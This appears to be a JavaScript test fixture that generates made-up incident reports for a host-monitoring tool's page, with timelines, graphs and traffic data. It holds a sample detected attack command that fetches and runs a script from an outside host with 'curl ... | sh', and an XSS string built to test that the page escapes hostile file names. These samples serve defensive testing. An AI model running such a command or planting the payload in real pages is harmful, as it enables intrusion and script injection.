// Data by the contract, made up: for looking at the page and for its check. Nothing random, so that runs are equal.

const NS = ["web1", "web2", "db1", "build1", "mail1"];
const DAY = Date.parse("2026-11-14T00:00:00Z");
const iso = (ms) => new Date(ms).toISOString();

/** What an attacker who chooses file names and arguments would try. */
export const NASTY = "</script><script>alert(1)</script><!--<img src=x onerror=alert(2)>\u2028\u2029\u202Egnp.exe\u0007{{data}}";

const STORIES = [
  {
    title: "/usr/sbin/nginx ran a command through /bin/sh", exe: "/bin/sh", child: "/usr/bin/curl",
    what: "sh -c curl -s http://10.0.0.7:4444/a | sh", to: "10.0.0.7", port: 4444,
  },
  { title: "a.out ran from memory, without a file", exe: "memfd:a.out", child: "/usr/bin/id", what: "a.out -d", to: "203.0.113.9", port: 443 },
  { title: "/usr/bin/ssh was pointed at a file of credentials", exe: "/usr/bin/ssh", child: "/usr/bin/scp", what: "ssh -i /home/deploy/.ssh/id_ed25519 db1", to: "10.0.0.12", port: 22 },
];

function incident(at, of) {
  const story = STORIES[at % STORIES.length];
  const host = NS[at % NS.length];
  const other = NS[(at + 2) % NS.length];
  const two = at % 4 === 0;
  const log2_n = 34 - (30 * at) / of;
  const start = DAY + 6 * 86_400_000 + ((at * 7919) % 80_000) * 1000;
  const file = (table) => `${table}/day=2026-11-20/host=${host}/20261120T000000Z-000001.parquet`;
  const row = (n, table = "process") => ({ file: file(table), row: at * 10 + n });
  const said = (text, ...rows) => ({ text, rows });
  const step = (s, where, text, n, table) => ({ time: iso(start + s * 1000), host: where, ...said(text, row(n, table)) });
  const title = at === 1 ? `${story.title} ${NASTY}` : story.title;
  const one = {
    rank: at + 1, id: (0xa1b2c3d4e5f6 + at * 7919).toString(16), aliases: at % 9 === 4 ? ["00ff00ff00ff"] : [],
    feedback: at % 7 === 2 ? { word: "watched", words: "watched by ana until 2026-12-01: the new backup host" } : null,
    first: iso(start), last: iso(start + 240_000), hosts: two ? [host, other].sort() : [host], title,
    bits: log2_n + 4, log2_n, one_in: 2 ** log2_n, steps: two ? 3 : 2, findings: two ? [`f0${at}a`, `f0${at}b`, `f0${at}c`] : [`f0${at}a`],
    root: { host, key: "0123456789abcdef0123456789abcdef" },
    links: [],
    narrative: {
      title: [said(title, row(1))],
      summary: [
        said(`${two ? "3 findings" : "One finding"} on ${host}, between ${iso(start).slice(0, 19).replace("T", " ")} and ${iso(start + 240_000).slice(0, 19).replace("T", " ")} UTC; the rarest is 1 in ${Math.round(2 ** log2_n).toLocaleString("en")}.`, row(1), row(2)),
        said(`${story.title}.`, row(1)),
        said(`${story.child} connected to ${story.to} port ${story.port}.`, row(3, "connection")),
        said("All of it comes from /usr/sbin/nginx (pid 812).", row(0)),
      ],
      timeline: [
        step(0, host, "/usr/sbin/nginx was there when the agent started", 0),
        step(62, host, `${story.exe} started under /usr/sbin/nginx: ${story.what}`, 1),
        step(63, host, `${story.child} started under ${story.exe}: ${leaf(story.child)} -s http://${story.to}:${story.port}/a`, 2),
        step(63, host, `${story.child} connected to ${story.to} port ${story.port}`, 3, "connection"),
        ...(two ? [step(190, other, `/usr/sbin/sshd accepted 10.0.0.4 at port 22`, 5, "connection"), step(240, other, "/bin/bash started under /usr/sbin/sshd: -bash", 6)] : []),
      ],
      root: [said("Process 812 (/usr/sbin/nginx) was there already when the agent started, at 2026-11-13 06:00:02 UTC, as user 33.", row(0)), said("It is process 812 of this boot, /usr/sbin/nginx; its key is 0123456789abcdef0123456789abcdef.", row(0))],
      reasons: [said(`14.2 bits: exe=${story.exe} given parent_exe=/usr/sbin/nginx: 0 of 2,635 on this host [child_of]`, row(1))],
      links: two ? [said(`${host} 2026-11-20 14:03:07 and ${other} 2026-11-20 14:05:14 share a destination: 10.0.0.12 port 22, which 2 of 48,211 process trees had by then`, row(3, "connection"), row(5, "connection"))] : [],
      harmless: [said("Many programs run a helper through a shell; a new version or setting brings a new command.", row(1)), said("Services move: a new address of a provider or mirror looks like this.", row(3, "connection"))],
      checks: [said("Read the command and ask who gave it to /usr/sbin/nginx.", row(1)), said(`See whose address ${story.to} is, and whether other hosts know it.`, row(3, "connection")), said(`See every view of the strongest row: ebbline explain ARCHIVE/${file("process")} ${at * 10 + 1} --baseline BASELINE`, row(1))],
      techniques: [{ id: "T1059.004", why: "shell command", rows: [row(1)] }, { id: "T1071", why: "outside", rows: [row(3, "connection")] }],
    },
    reasons: [
      { bits: 14.2, value: `exe=${story.exe}`, context: "parent_exe=/usr/sbin/nginx", words: "0 of 2,635", n: 0, N: 2635, T: 3, scope: "host", view: "child_of", rows: [row(1)] },
      { bits: 11.6, value: `remote=${story.to} port ${story.port}`, context: `exe=${story.child}`, words: "1 of 48,211", n: 1, N: 48211, T: 17, scope: "fleet", view: "destination_of", rows: [row(3, "connection")] },
      { bits: 6.1, value: "uid=33", context: `exe=${story.child}`, words: "12 of 9,804", n: 12, N: 9804, T: 6, scope: "group web", view: "user_of", rows: [row(2)] },
    ],
    graph: graph(story, host, other, two, start),
  };
  one.narrative.evidence = cited(one.narrative);
  return one;
}

/** Each row that is named, once, in the order of the parts. */
function cited({ title, summary, timeline, reasons, root, harmless, checks, links, techniques }) {
  const rows = [title, summary, timeline, reasons, root, harmless, checks, links, techniques].flat().flatMap((it) => it.rows);
  return [...new Map(rows.map((row) => [`${row.row} ${row.file}`, row])).values()];
}

const leaf = (path) => path.split("/").pop();

function graph(story, host, other, two, start) {
  const node = (kind, on, label, detail, s, bits) => ({ kind, host: on, label, detail, time: s === null ? null : iso(start + s * 1000), bits });
  const nodes = [
    node("process", host, "/usr/sbin/nginx", "pid 812", 0, 0),
    node("process", host, story.exe, "pid 9120", 62, 14.2),
    node("process", host, story.child, "pid 9121", 63, 11.6),
    node("destination", host, `${story.to} port ${story.port}`, "tcp", 63, 11.6),
    node("process", host, "/usr/bin/sed", "pid 9122", 64, 0),
  ];
  const edges = [[0, 1], [1, 2], [1, 4]].map(([from, to]) => ({ from, to, kind: "started" }));
  edges.push({ from: 2, to: 3, kind: "connected to" });
  if (two) {
    nodes.push(node("process", other, "/usr/sbin/sshd", "pid 640", 190, 0), node("process", other, "/bin/bash", "pid 7002", 240, 9.3));
    edges.push({ from: 3, to: 5, kind: "accepted by" }, { from: 5, to: 6, kind: "started" });
  }
  return { nodes, edges, others: two ? 2 : 0 };
}

const STEPS = 168;

function volume(scale, phase) {
  return Array.from({ length: STEPS }, (_, at) => Math.round(scale * (1.3 + Math.sin(((at - phase) / 24) * 2 * Math.PI)) + ((at * 7919) % 97) * (scale / 400)));
}

function host(name, at) {
  const rows = volume(4000 / (at + 1), 8 + at).map((n, step) => (at === 2 && step > 150 ? 0 : at === 3 && step % 24 < 7 ? 0 : n));
  const beats = rows.map((_, step) => (at === 2 && step > 150 ? 0 : 60));
  const lost = rows.map((_, step) => (at === 1 && step === 90 ? 312 : at === 1 && step === 91 ? 55 : 0));
  return { host: name, rows, beats, lost };
}

function pairs(number) {
  const exes = ["/usr/sbin/nginx", "/usr/lib/postgresql/17/bin/postgres", "/usr/bin/curl", "/usr/lib/apt/methods/https", "/usr/bin/python3", "/usr/sbin/chronyd"];
  return Array.from({ length: number }, (_, at) => ({
    host: NS[at % NS.length], exe: at === 5 ? `/tmp/${NASTY}` : exes[at % exes.length],
    remote: at % 7 === 3 ? `2001:db8::${at.toString(16)}` : `10.0.${at % 3}.${(at * 13) % 250}`, port: [443, 5432, 4444, 80, 53, 123][at % 6], protocol: at % 6 > 3 ? "udp" : "tcp",
    connections: Math.max(1, Math.round(90_000 / (number - at) ** 1.5)), first: iso(DAY + (at < 9 ? 6 : 0) * 86_400_000), last: iso(DAY + 6.9 * 86_400_000),
    is_new: at < 9, log2_n: at < 14 ? 15 - at / 2 : at % 5 === 0 ? null : 3.5,
  }));
}

/** A report with so many incidents. */
export function sample(number) {
  return {
    format: 1, version: "0.1.0", source: "scored", from: iso(DAY), until: iso(DAY + 7 * 86_400_000 - 1000),
    expected_per_day: 5, last_7_days: number, findings: number * 2,
    coverage: [
      { kind: "silent", host: "db1", text: "db1: silent since 2026-11-20 06:59:58 UTC", since: iso(DAY + 6.29 * 86_400_000), until: iso(DAY + 7 * 86_400_000) },
      { kind: "loss", host: "web2", text: "web2: lost 312 connect (ring_full) between 2026-11-17 18:00:00 and 2026-11-17 18:01:00 UTC", since: iso(DAY + 3.75 * 86_400_000), until: iso(DAY + 3.76 * 86_400_000) },
      { kind: "missing", host: "build1", text: "build1: its kernel refused udp_sendmsg: those events are missing", since: null, until: null },
      { kind: "learning", host: "mail1", text: "mail1: learning day 2 of 7", since: null, until: null },
      { kind: "skipped", host: null, text: "dns/day=2026-11-20/host=web1/x.parquet: damaged footer", since: null, until: null },
    ],
    incidents: { total: number > 999 ? number + 212 : number, shown: Array.from({ length: number }, (_, at) => incident(at, number)) },
    axis: { since: iso(DAY), step_s: 3600, steps: STEPS },
    volume: [{ table: "process", rows: volume(6000, 9) }, { table: "connection", rows: volume(2500, 10) }, { table: "dns", rows: volume(900, 11) }],
    scores: [["process", 1.4e6, 30], ["connection", 6e5, 24], ["dns", 2e5, 18]].map(([table, rows, most]) => ({
      table, rows, counts: Array.from({ length: most }, (_, at) => Math.round((rows * 0.55) / 2 ** at)),
    })),
    hosts: { total: 5, shown: NS.map(host) },
    talk: { new_since: iso(DAY + 6 * 86_400_000), total: 1203, connections: 2_400_113, crowded: false, shown: pairs(120) },
  };
}

/** A report of a folder in which nothing was found and little is known. */
export function empty() {
  return {
    format: 1, version: "0.1.0", source: "scored", from: null, until: null, expected_per_day: null, last_7_days: null, findings: 0,
    coverage: [], incidents: { total: 0, shown: [] }, axis: null, volume: [], scores: [], hosts: { total: 0, shown: [] },
    talk: { new_since: null, total: 0, connections: 0, crowded: false, shown: [] },
  };
}
